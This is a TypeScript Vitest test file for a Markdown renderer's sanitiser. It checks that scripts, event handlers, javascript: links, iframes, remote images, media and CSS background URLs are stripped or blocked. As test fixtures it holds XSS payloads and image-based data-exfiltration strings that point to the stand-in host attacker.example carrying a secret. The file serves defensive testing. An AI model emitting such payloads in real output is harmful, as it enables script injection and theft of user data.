import { describe, expect, it } from 'vitest';

import { renderMarkdown } from '../markdown';

function render(source: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = renderMarkdown(source);
  return element;
}

describe('renderMarkdown', () => {
  it('renders Markdown structure: emphasis, lists, links and tables', () => {
    // when
    const html = render(
      '**bold** and *it*\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)',
    );

    // then
    expect(html.querySelector('strong')?.textContent).toBe('bold');
    expect(html.querySelectorAll('li')).toHaveLength(2);
    expect(html.querySelector('table td')?.textContent).toBe('1');
    const link = html.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toContain('noopener');
  });

  it('strips scripts, event handlers and javascript: links a model may write', () => {
    // when
    const html = render(
      'Hi <script>alert(1)</script><img src="x" onerror="alert(2)"> <a href="javascript:alert(3)">click</a> <iframe src="https://evil.test"></iframe>',
    );

    // then
    expect(html.querySelector('script')).toBeNull();
    expect(html.querySelector('iframe')).toBeNull();
    expect(html.querySelector('img')).toBeNull();
    expect(html.querySelector('a')?.getAttribute('href') ?? '').not.toContain('javascript');
    expect(html.innerHTML).not.toMatch(/onerror|<script/i);
  });

  it('shows a remote image as text instead of loading it, so a reply cannot send data out', () => {
    // when
    const html = render(
      'Here: ![chart](https://attacker.example/?d=SECRET) and <img src="//attacker.example/a.png" alt="">' +
        ' <img src="/api/v1/me/" alt="me"> <img srcset="https://attacker.example/b.png 2x">',
    );

    // then
    expect(html.querySelector('img')).toBeNull();
    expect(html.innerHTML).not.toContain('attacker.example');
    expect(html.textContent).toContain('[image: chart — blocked remote image]');
    expect(html.textContent).toContain('[image — blocked remote image]');
    expect(html.textContent).toContain('[image: me — blocked remote image]');
  });

  it('keeps inline data images, which make no request', () => {
    // given
    const pixel =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

    // when
    const html = render(`![dot](${pixel})`);

    // then
    expect(html.querySelector('img')?.getAttribute('src')).toBe(pixel);
    expect(html.querySelector('img')?.getAttribute('alt')).toBe('dot');
  });

  it('drops media, background images and inline styles that would load from elsewhere', () => {
    // when
    const html = render(
      '<video poster="https://attacker.example/p.png" src="https://attacker.example/v.mp4"></video>' +
        '<audio src="https://attacker.example/a.mp3"></audio>' +
        '<picture><source srcset="https://attacker.example/s.png"></picture>' +
        '<table background="https://attacker.example/t.png"><tr><td>cell</td></tr></table>' +
        '<p style="background:url(https://attacker.example/c.png)">styled</p>',
    );

    // then
    expect(html.querySelector('video, audio, source, picture, [style], [background]')).toBeNull();
    expect(html.innerHTML).not.toContain('attacker.example');
    expect(html.textContent).toContain('cell');
    expect(html.textContent).toContain('styled');
  });

  it('highlights code in a known language and escapes code in an unknown one', () => {
    // when
    const python = render('```python\ndef f():\n    return 1\n```');
    const unknown = render('```brainfuck\n<b>not bold</b>\n```');

    // then
    expect(python.querySelector('code.language-python .hljs-keyword')?.textContent).toBe('def');
    expect(unknown.querySelector('b')).toBeNull();
    expect(unknown.querySelector('code')?.textContent).toContain('<b>not bold</b>');
  });
});
